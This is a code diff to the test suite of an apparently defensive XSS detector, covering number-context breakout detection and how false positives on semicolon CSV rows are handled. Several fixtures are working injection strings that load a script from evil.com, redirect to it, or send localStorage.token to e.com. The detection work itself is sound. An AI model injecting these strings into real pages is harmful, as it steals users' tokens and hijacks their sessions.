@@ -1314,8 +1314,12 @@ function refBreakout(s: string): boolean {
     tail = t;
   }
   const mid = s.slice(0, tail);
+  // (Review rB: in a number context only the first statement counts, up to its first `;` or line
+  // break: `1;Bakery Rossi;open (7-19);… // closed Sundays` is a semicolon CSV row.)
+  const firstStop = q === '' ? head + s.slice(head, tail).search(/[;\n\r\u2028\u2029]|$/) : tail;
   for (const m of mid.slice(head).matchAll(/[A-Za-z0-9_$]+/g)) {
     const a = head + m.index!;
+    if (a >= firstStop) break;
     if (a > 0 && /[A-Za-z0-9_$]/.test(s[a - 1]!)) continue; // the identifier began before the head
     let after = mid.slice(a + m[0].length).replace(/^[ \t]{0,4}/, '');
     if (after.startsWith('/*') && after.indexOf('*/', 2) !== -1) after = after.slice(after.indexOf('*/', 2) + 2).replace(/^[ \t]{0,4}/, '');
@@ -1382,6 +1386,8 @@ t.test('breakouts round 2: a sink passed as a value, a capability named by piece
     "1;import('//evil.com/x.js')//",
     "1);location='//evil.com'//",
     "-1;fetch('//e.com/?'+localStorage.token)//",
+    "1;location='//evil.com/?a;b'//",
+    "1;window['loc'+'ation']='//e.com';x//",
   ];
   for (const v of high) {
     const d = detectXss(v);
@@ -1402,11 +1408,43 @@ t.test('breakouts round 2: a sink passed as a value, a capability named by piece
     '1;fetch is nice//',
     '12;34 // ok',
     '100; // comment',
+    // (Review rB: semicolon CSV rows with a numeric first column were high: the capability-like
+    // word sat in a later field, or a later row.)
+    '1;Bakery Rossi;open (7-19);Mo-Sa // closed Sundays',
+    '1;Laden;open (Mo-Fr);//www.example.de',
+    '10;status;open(3) // in progress',
+    '1;name;city\n2;Anna;open (9-17)\n3;Bob;closed // holiday',
+    '7;Lager;location=Halle 3 // Regal B',
+    "1;Shop;window['loc'+'ation']=x // note",
   ];
   for (const v of notHigh) {
     const d = detectXss(v);
     t.not(d?.confidence, 'high', `not high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
   }
+});
+
+t.test('number-context breakouts against the slow reference on a seeded table (review rB)', async (t) => {
+  // Number heads, then fields and statements joined by `;` and line breaks, capability names early
+  // and late. (Planted: the first-statement limit dropped from the names: 700+ failures.)
+  const heads = ['1;', '-12;', '3);', '2024;', ' 7];', '5;\t'];
+  const pieces = [';', '\n', ' ', '(', ')', '=', '.', "'", "'//e.com'", '+', '[', ']', "'loc'", "'ation'", 'window', 'fetch', 'open', 'location', 'import', 'localStorage', 'Anna', 'x', 'n/a', '(9-17)', 'alert', ','];
+  const tails = ['//', ' // note', '//\n', '://x', ''];
+  let seed = 4242;
+  const r = (): number => ((seed = (Math.imul(seed, 1103515245) + 12345) >>> 0), seed / 2 ** 32);
+  let flagged = 0;
+  for (let i = 0; i < 30000; i++) {
+    let s = heads[Math.floor(r() * heads.length)]!;
+    const len = 1 + Math.floor(r() * 9);
+    for (let j = 0; j < len; j++) s += pieces[Math.floor(r() * pieces.length)];
+    s += tails[Math.floor(r() * tails.length)];
+    const d = detectXss(s);
+    const raw = refBreakout(s);
+    const ref = /[(=`]/.test(s) && raw;
+    if (ref) flagged++;
+    if (ref && d?.confidence !== 'high') t.fail(`reference flags, detector not high: ${JSON.stringify(s)} -> ${JSON.stringify(d)}`);
+    if (!raw && d?.reason.startsWith('A string breakout into code that loads')) t.fail(`detector's breakout rule without the reference: ${JSON.stringify(s)}`);
+  }
+  t.ok(flagged > 300, `${flagged} values flagged by the reference`);
 });
 
 // A slow reference for bracketBreakoutName (round 2): inside a quote-headed breakout frame, a regex
